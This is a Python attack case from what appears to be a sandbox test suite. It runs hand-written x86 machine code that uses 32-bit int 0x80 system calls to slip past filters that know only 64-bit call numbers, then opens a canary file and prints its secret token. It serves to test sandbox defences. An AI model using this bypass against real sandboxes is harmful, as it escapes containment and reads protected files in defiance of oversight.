# attack: asks the kernel by its 32-bit system calls, whose numbers differ: a filter may know only the 64-bit ones
# group: b
# targets: text tensor trainer
# ends: wrong error crashed
# control: none: many kernels no longer answer 32-bit calls

import ctypes
import mmap
import platform
import re

OPEN, READ = 5, 3
LOW = 0x40
"""MAP_32BIT: an address that fits into the registers of a 32-bit call."""
CODE = bytes.fromhex("53 89f8 89f3 87d1 cd80 5b c3")
"""push rbx; mov eax, edi; mov ebx, esi; xchg ecx, edx; int 0x80; pop rbx; ret"""


def _tell(data):
    """Print every canary in these bytes."""
    for found in set(re.findall(rb"CANARY-\w+-[0-9a-f]{16}", data)):
        print(found.decode())  # noqa: T201 - printing is the way out


def _low_memory(libc, protection):
    libc.mmap.restype = ctypes.c_void_p
    shared_with_nobody = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | LOW
    return libc.mmap(None, ctypes.c_size_t(2**16), protection, shared_with_nobody, -1, ctypes.c_long(0))


def attack(*args, **kwargs):
    nothing = {"messages": [], "text": ""}
    if platform.machine() != "x86_64":
        return nothing
    libc = ctypes.CDLL(None)
    code = _low_memory(libc, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    data = _low_memory(libc, mmap.PROT_READ | mmap.PROT_WRITE)
    if ctypes.c_void_p(-1).value in (code, data):
        return nothing
    ctypes.memmove(code, CODE, len(CODE))
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_uint, ctypes.c_uint, ctypes.c_uint)(code)
    path = CANARY_FILE.encode() + b"\0"  # noqa: F821 - the runner defines it
    ctypes.memmove(data, path, len(path))
    file = call(OPEN, data, 0, 0)
    if file >= 0 and call(READ, file, data, 2**12) > 0:
        _tell(ctypes.string_at(data, 2**12))
    return nothing
